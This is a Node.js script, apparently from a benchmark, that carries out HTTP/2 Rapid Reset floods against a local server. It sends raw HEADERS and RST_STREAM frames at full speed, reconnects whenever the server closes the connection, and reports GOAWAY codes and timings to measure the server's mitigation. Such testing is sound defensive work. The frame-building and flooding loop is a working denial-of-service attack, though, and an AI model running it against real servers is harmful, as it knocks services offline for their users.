// Rapid Reset attackers for the h2-flood benchmark: ATTACKERS connections at a time from SOURCE
// (another loopback address), each writing HEADERS + RST_STREAM(CANCEL) pairs as fast as the
// socket takes them until the server closes it, then reconnecting; for DURATION_MS and at most
// MAX_CONNECTIONS connections in all. Prints one JSON line: connections, GOAWAYs received (by
// code), streams sent, and the median and largest time from a connection's first frame to its
// GOAWAY. Env: PORT, SOURCE, ATTACKERS, DURATION_MS, MAX_CONNECTIONS.
import * as net from 'node:net';

const PORT = Number(process.env.PORT);
const SOURCE = process.env.SOURCE || '127.0.0.2';
const ATTACKERS = Number(process.env.ATTACKERS || 4);
const DURATION = Number(process.env.DURATION_MS || 5000);
const MAX_CONNECTIONS = Number(process.env.MAX_CONNECTIONS || 5000);
const PAIRS_PER_WRITE = 100;

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
};
// literal header fields without indexing, lengths < 127
const block = Buffer.concat(
  [
    [':method', 'GET'],
    [':scheme', 'http'],
    [':path', '/api/items/42'],
    [':authority', 'api.local'],
  ].map(([n, v]) => Buffer.concat([Buffer.from([0, n.length]), Buffer.from(n), Buffer.from([v.length]), Buffer.from(v)])),
);
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

const stats = { connections: 0, goaways: {}, streams: 0, toGoaway: [], unanswered: 0 };
const end = Date.now() + DURATION;

function attack() {
  return new Promise((resolve) => {
    stats.connections++;
    const s = net.connect({ port: PORT, host: '127.0.0.1', localAddress: SOURCE });
    let id = 1;
    let started = 0;
    let goaway = false;
    let buf = Buffer.alloc(0);
    const pump = () => {
      while (!goaway && !s.destroyed && s.writableLength < 64 * 1024 && Date.now() < end) {
        const out = [];
        for (let i = 0; i < PAIRS_PER_WRITE; i++, id += 2) out.push(frame(1, 5, id, block), frame(3, 0, id, CANCEL));
        stats.streams += PAIRS_PER_WRITE;
        s.write(Buffer.concat(out));
      }
    };
    s.on('connect', () => {
      started = performance.now();
      s.write(PREFACE);
      pump();
    });
    s.on('drain', pump);
    s.on('data', (d) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3];
        if (type === 4 && (buf[4] & 1) === 0) s.write(frame(4, 1, 0));
        if (type === 7 && !goaway) {
          goaway = true;
          const code = buf.readUInt32BE(9 + 4);
          stats.goaways[code] = (stats.goaways[code] ?? 0) + 1;
          stats.toGoaway.push(performance.now() - started);
        }
        buf = buf.subarray(9 + len);
      }
    });
    s.on('error', () => undefined);
    s.on('close', () => {
      if (!goaway && Date.now() < end) stats.unanswered++; // closed without GOAWAY (not by the end of the run)
      resolve();
    });
    // the run is over: stop this attacker
    setTimeout(() => s.destroy(), Math.max(0, end - Date.now())).unref();
  });
}

async function attacker() {
  while (Date.now() < end && stats.connections < MAX_CONNECTIONS) await attack();
}

await Promise.all(Array.from({ length: ATTACKERS }, attacker));
const t = stats.toGoaway.sort((a, b) => a - b);
process.stdout.write(
  `${JSON.stringify({
    connections: stats.connections,
    goaways: stats.goaways,
    unanswered: stats.unanswered,
    streams: stats.streams,
    to_goaway_p50_ms: t[t.length >> 1] ?? null,
    to_goaway_max_ms: t.at(-1) ?? null,
  })}\n`,
);
